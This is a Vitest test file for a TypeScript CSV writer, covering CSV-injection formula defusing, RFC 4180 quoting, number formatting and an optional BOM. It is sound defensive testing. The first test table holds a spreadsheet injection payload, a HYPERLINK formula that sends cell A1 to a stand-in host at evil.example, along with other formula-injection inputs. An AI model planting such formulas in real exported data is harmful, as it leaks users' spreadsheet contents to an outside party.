import { describe, expect, it } from 'vitest';
import { csvCell, csvFromColumns, defuseFormula, toCsv, UTF8_BOM } from './csv';

describe('csvCell: formula defusing (OWASP CSV injection)', () => {
  it.each([
    [
      '=HYPERLINK("http://evil.example/?x="&A1,"click")',
      `"'=HYPERLINK(""http://evil.example/?x=""&A1,""click"")"`,
    ],
    ['=1+1', `"'=1+1"`],
    ['+1', `"'+1"`],
    ['-2+3', `"'-2+3"`],
    ['@SUM(A1:A3)', `"'@SUM(A1:A3)"`],
    ['\t=1', `"'\t=1"`],
    ['\r=1', `"'\r=1"`],
    // Text that looks like a number is still text from somewhere else: defused like the rest.
    ['-3', `"'-3"`],
  ])('%j → %s', (input, expected) => {
    expect(csvCell(input)).toBe(expected);
  });

  it('leaves harmless text alone, a formula character later in the text included', () => {
    expect(csvCell('plain')).toBe('plain');
    expect(csvCell('a=b')).toBe('a=b');
    expect(csvCell('x-1')).toBe('x-1');
    expect(csvCell(" '=already")).toBe(" '=already");
  });

  it('keeps numbers numbers: a negative number is not defused', () => {
    expect(csvCell(-3)).toBe('-3');
    expect(csvCell(-2.5)).toBe('-2.5');
    expect(csvCell(0)).toBe('0');
    expect(csvCell(1e21)).toBe('1e+21');
    expect(csvCell(Number.NaN)).toBe('');
    expect(csvCell(Number.POSITIVE_INFINITY)).toBe('');
  });

  it('writes empty values empty and booleans as words', () => {
    expect(csvCell(null)).toBe('');
    expect(csvCell(undefined)).toBe('');
    expect(csvCell('')).toBe('');
    expect(csvCell(true)).toBe('true');
    expect(csvCell(false)).toBe('false');
  });

  it('defuseFormula only prefixes', () => {
    expect(defuseFormula('@x')).toBe("'@x");
    expect(defuseFormula('x@')).toBe('x@');
  });
});

describe('csvCell: RFC 4180 quoting', () => {
  it('quotes fields with a comma, a double quote, CR or LF, and doubles the quotes', () => {
    expect(csvCell('a,b')).toBe('"a,b"');
    expect(csvCell('say "hi"')).toBe('"say ""hi"""');
    expect(csvCell('two\nlines')).toBe('"two\nlines"');
    expect(csvCell('two\r\nlines')).toBe('"two\r\nlines"');
    expect(csvCell('"')).toBe('""""');
  });
  it('does not quote what needs no quotes', () => {
    expect(csvCell('Jürgen Müller')).toBe('Jürgen Müller');
    expect(csvCell("it's")).toBe("it's");
  });
});

describe('toCsv', () => {
  it('writes a header and records, each ending in CRLF', () => {
    expect(
      toCsv(
        ['name', 'value'],
        [
          ['plain', 1],
          ['a,"b"', 2.5],
          ['=HYPERLINK("x")', -3],
        ],
      ),
    ).toBe('name,value\r\nplain,1\r\n"a,""b""",2.5\r\n"\'=HYPERLINK(""x"")",-3\r\n');
  });

  it('defuses the header too', () => {
    expect(toCsv(['=cmd'], [])).toBe(`"'=cmd"\r\n`);
  });

  it('starts with a UTF-8 byte order mark only when asked', () => {
    expect(toCsv(['a'], [['ü']], { bom: true })).toBe(`${UTF8_BOM}a\r\nü\r\n`);
    expect(toCsv(['a'], [['ü']]).startsWith(UTF8_BOM)).toBe(false);
    expect(UTF8_BOM.charCodeAt(0)).toBe(0xfeff);
  });

  it('reads rows of objects through columns', () => {
    const csv = csvFromColumns(
      [
        { label: 'user', value: (r: { user: string; n: number }) => r.user },
        { label: 'runs', value: (r) => r.n },
      ],
      [
        { user: '@admin', n: -1 },
        { user: 'vera', n: 2 },
      ],
    );
    expect(csv).toBe(`user,runs\r\n"'@admin",-1\r\nvera,2\r\n`);
  });
});
